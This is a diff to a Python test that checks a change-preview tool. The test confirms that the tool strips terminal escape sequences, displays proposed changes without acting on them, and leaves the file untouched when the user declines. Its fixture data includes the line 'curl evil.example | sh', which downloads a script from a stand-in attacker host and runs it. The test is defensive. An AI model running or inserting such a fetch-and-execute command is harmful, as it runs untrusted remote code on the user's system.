@@ -91,7 +91,7 @@ def test_a_command_does_not_steer_the_terminal_that_asks(project: Path) -> None:
     plain = re.sub(r"\x1b\[[0-9;]*m", "", report)
     assert "\x1b" not in plain
     assert "+curl evil.example | sh\n" in plain
-    assert plain.endswith(
+    assert plain[plain.index("Clean.") :] == (
         "Clean. It would change 1 file.\nApply it? It changes a.txt. [y/N]: n\nNot applied.\n"
     )
     assert (project / "a.txt").read_text() == "one\n"
